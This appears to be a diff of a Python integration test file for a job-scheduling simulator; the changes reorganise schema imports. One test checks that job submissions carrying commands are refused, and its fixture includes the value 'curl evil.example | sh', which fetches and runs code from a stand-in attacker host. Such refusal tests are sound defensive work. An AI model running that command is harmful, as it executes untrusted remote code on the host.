@@ -22,7 +22,8 @@ from launcher.nats import embedded_nats, nats_from_binary, nats_server_binary
 from launcher.setup import provision_now
 from shared import credentials, permissions, storage, subjects
 from shared.bus import Bus
-from shared.schema import ApplyRequest, JobSpec, PlaceRequest
+from shared.schema.jobs import JobSpec
+from shared.schema.rounds import ApplyRequest, PlaceRequest
 
 ROOT = Path(__file__).resolve().parent.parent
 PASSWORDS = {role: f"{role}Secret{index}x9" for index, role in enumerate((*permissions.ROLES, "user", "bob"))}
@@ -534,8 +535,8 @@ async def test_the_stack_runs_a_replay_with_each_service_in_its_role(tmp_path: P
     no service's log reports a permissions violation."""
     from launcher.replay import replay
     from launcher.stack import running_services, service_arguments
-    from shared.reference import load_workload
     from shared.settings import settings_for
+    from sim.reference import load_workload
 
     arguments = service_arguments("sia-hetero-64", None, True, None, 1, None)
     jobs = load_workload(str(ROOT / "examples" / "workloads" / "mixed-40.csv"))[:4]
@@ -622,7 +623,8 @@ async def test_submissions_carrying_commands_or_paths_are_refused_with_the_reaso
     has no field for a command or a file: a submission with one is refused by the API, the reason recorded for its login, and the profiler
     goes on to profile the next good submission. (Its own server: it reads every refusal.)"""
     from launcher.stack import Stack, service_arguments
-    from shared.schema import Ack, Count, Rejected
+    from shared.schema.base import Ack, Count
+    from shared.schema.jobs import Rejected
 
     bad = {
         "bad-command": {"id": "bad-command", "application": "cifar10", "command": "curl evil.example | sh"},
@@ -724,7 +726,7 @@ async def test_a_held_job_id_is_refused_to_another_body_and_a_malformed_message_
     valid body under it, are refused on their own (each a rejected entry of its own, the reason with
     it); the same body again is a repeat; the job stays as first submitted."""
     from launcher.stack import running_services, service_arguments
-    from shared.schema import JobRecords, JobsQuery
+    from shared.schema.records import JobRecords, JobsQuery
 
     arguments = service_arguments("sia-hetero-64", None, True, None, 1, None)
     with embedded_nats(tmp_path) as server, running_services(server, arguments, tmp_path) as stack:
